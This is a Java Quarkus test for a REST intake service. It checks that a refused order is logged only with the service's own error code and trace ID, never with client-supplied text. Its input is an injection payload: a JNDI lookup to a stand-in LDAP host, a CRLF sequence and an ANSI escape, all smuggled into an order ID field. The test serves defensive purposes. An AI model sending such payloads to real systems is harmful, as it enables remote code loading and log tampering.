package dev.fillstream.intake.adapter.rest;

import static org.assertj.core.api.Assertions.assertThat;

import dev.fillstream.intake.adapter.rest.IntakeClient.Answer;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import java.net.URI;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The log says what was refused and why, in our words only. */
@QuarkusTest
@QuarkusTestResource(value = Platform.class, restrictToAnnotatedClass = true)
class RefusalLogTest {

    /** All that is logged, as a format with what goes into it. */
    private static final class Lines extends Handler {
        private final List<String> lines = new CopyOnWriteArrayList<>();

        @Override
        public void publish(LogRecord record) {
            lines.add(record.getMessage() + " " + Arrays.toString(record.getParameters()));
        }

        @Override
        public void flush() {}

        @Override
        public void close() {}
    }

    @TestHTTPResource("/")
    URI service;

    private final Lines log = new Lines();

    @BeforeEach
    void listen() {
        Logger.getLogger("").addHandler(log);
    }

    @AfterEach
    void stop() {
        Logger.getLogger("").removeHandler(log);
    }

    @Test
    void r13LogsNothingOfWhatTheClientWrote() {
        String order = IntakeClient.limitOrder("${jndi:ldap://hostile}\\r\\nhostile\\u001b[31m");
        Answer answer = new IntakeClient(service).post(order, "User-Agent", "hostile");
        answer.isProblem(400, "CL_ORD_ID_MALFORMED");
        assertThat(log.lines)
                .filteredOn(line -> line.contains(answer.text("traceId")))
                .singleElement()
                .asString()
                .contains("CL_ORD_ID_MALFORMED");
        assertThat(log.lines).noneMatch(line -> line.contains("hostile"));
    }
}
